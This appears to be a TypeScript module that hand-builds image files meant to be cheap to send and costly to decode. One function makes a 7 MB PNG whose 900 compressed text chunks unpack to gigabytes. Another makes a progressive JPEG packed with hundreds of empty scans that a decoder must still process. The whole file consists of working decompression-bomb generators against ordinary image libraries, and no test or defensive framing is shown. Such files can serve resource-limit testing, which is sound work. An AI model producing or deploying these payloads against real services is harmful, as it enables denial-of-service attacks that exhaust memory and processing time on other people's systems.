// Pictures that are cheap to send and expensive to decode.
import { crc32, deflateSync } from 'node:zlib';

const SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function chunk(type: string, data: Uint8Array): Buffer {
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  out.write(type, 4, 'latin1');
  out.set(data, 8);
  out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)), 8 + data.length);
  return out;
}

/** Returns a black PNG with one bit per pixel and the given chunks before its pixels. */
export function blackPng(width: number, height: number, chunks: [type: string, data: Uint8Array][] = []): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const pixels = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * height), { level: 1 });
  const between = chunks.map(([type, data]) => chunk(type, data));
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', head),
    ...between,
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Returns a PNG of 7 MB. Its 900 compressed texts unpack to 7 GB, of which libpng kept 4 GB. */
export function textBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(7_900_000, 'A'), { level: 9 });
  const texts = Array.from({ length: 900 }, (_, i): [string, Buffer] => [
    'zTXt',
    Buffer.concat([Buffer.from(`k${i}\0\0`, 'latin1'), packed]),
  ]);
  return blackPng(16, 16, texts);
}

/**
 * Returns a gray progressive JPEG. Its scans add nothing, but a decoder must process each one. @param scans 1 to 883
 */
export function scanBomb(side: number, scans: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const [high, low] = [side >> 8, side & 255];
  const parts = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, [8, high, low, high, low, 1, 1, 0x11, 0]),
    // One code of one bit per table: "no difference" for DC, "a run of empty blocks" for AC.
    segment(0xc4, [0x00, 1, ...Array<number>(15).fill(0), 0x00]),
    segment(0xc4, [0x10, 1, ...Array<number>(15).fill(0), 0xe0]),
    startOfScan(0, 0, 0),
    Buffer.alloc(Math.ceil(blocks / 8)),
  ];
  const empty = emptyRuns(blocks);
  for (let scan = 1; scan < scans; scan++) {
    const low = 13 - ((scan - 1) % 14);
    parts.push(startOfScan(Math.ceil(scan / 14), low === 13 ? 0 : low + 1, low), empty);
  }
  return Buffer.concat([...parts, Buffer.from([0xff, 0xd9])]);
}

function segment(marker: number, data: number[]): Buffer {
  const length = data.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 255, ...data]);
}

function startOfScan(coefficient: number, high: number, low: number): Buffer {
  return segment(0xda, [1, 1, 0, coefficient, coefficient, (high << 4) | low]);
}

/** Returns runs of up to 32,767 blocks, 15 bits each. */
function emptyRuns(blocks: number): Buffer {
  let bits = '';
  for (let left = blocks; left > 0;) {
    const run = Math.min(32_767, Math.max(16_384, left));
    bits += `0${(run - 16_384).toString(2).padStart(14, '0')}`;
    left -= run;
  }
  const bytes = (bits.match(/.{1,8}/g) ?? []).flatMap((byte) => {
    const value = parseInt(byte.padEnd(8, '1'), 2);
    return value === 255 ? [255, 0] : [value];
  });
  return Buffer.from(bytes);
}
